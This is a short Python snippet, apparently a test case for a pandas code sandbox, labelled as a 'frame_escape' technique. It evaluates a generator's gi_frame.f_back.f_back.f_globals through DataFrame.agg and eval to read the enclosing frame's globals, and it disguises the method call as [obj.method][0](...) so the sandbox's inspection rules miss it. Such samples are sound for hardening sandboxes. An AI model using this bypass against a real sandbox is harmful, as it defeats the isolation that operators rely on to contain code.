# class: frame_escape
# technique: a generator (allowed since v2) that, while running, evaluates its own gi_frame.f_back.f_back.f_globals with DataFrame.eval (agg ** mapping): the frame that iterates the snippet; the dispatch method is called as [obj.method][0](...), which is not a method-call node the dispatch rules inspect
# goal: read
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})


def rows():
    yield [frame.agg][0](**{"func": "eval", "expr": "@g.gi_frame.f_back.f_back.f_globals", "local_dict": {"g": gen}})


gen = rows()
outer = next(gen)
df = pd.DataFrame({"name": sorted(str(k) for k in outer)})
